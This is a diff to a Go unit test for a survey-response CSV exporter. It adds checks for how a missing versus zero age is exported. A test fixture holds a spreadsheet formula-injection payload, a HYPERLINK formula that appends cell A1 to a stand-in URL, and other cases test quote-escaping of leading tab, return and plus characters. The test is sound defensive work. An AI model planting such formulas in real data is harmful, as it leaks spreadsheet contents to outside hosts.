@@ -18,7 +18,7 @@ func TestAppendCSV(t *testing.T) {
 		FinishedAt: time.Date(2026, 1, 5, 2, 30, 0, 0, time.UTC).UnixMilli(),
 		UnitCode:   "EXA", UnitName: "@Samsat", ServiceName: "Pembayaran PKB",
 		Scores:       [9]int{4, 3, 0, 1, 2, 3, 4, 4, 4},
-		JenisKelamin: "P", Usia: 34, Pendidikan: "D1-D3",
+		JenisKelamin: "P", Usia: age(34), Pendidikan: "D1-D3",
 		Perbaikan: `=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")`, Saran: "-antrean lama, +tambah loket",
 	}
 	got := report.AppendCSV([]string{"x"}, row, jakarta)
@@ -30,6 +30,15 @@ func TestAppendCSV(t *testing.T) {
 	}
 	if len(got)-1 != len(report.CSVHeader) {
 		t.Errorf("%d fields for %d columns", len(got)-1, len(report.CSVHeader))
+	}
+	// Not answered is an empty field; 0, which a custom flow may allow, is an age.
+	for _, tt := range []struct {
+		usia       *int
+		name, want string
+	}{{nil, "no age", ""}, {age(0), "age 0", "0"}} {
+		if f := report.AppendCSV(nil, storage.ResponseRow{Usia: tt.usia}, jakarta); f[5] != tt.want {
+			t.Errorf("%s exported as %q, want %q", tt.name, f[5], tt.want)
+		}
 	}
 	for _, s := range []string{"\tx", "\rx", "+62812"} {
 		if f := report.AppendCSV(nil, storage.ResponseRow{Saran: s}, jakarta); f[len(f)-1] != "'"+s {
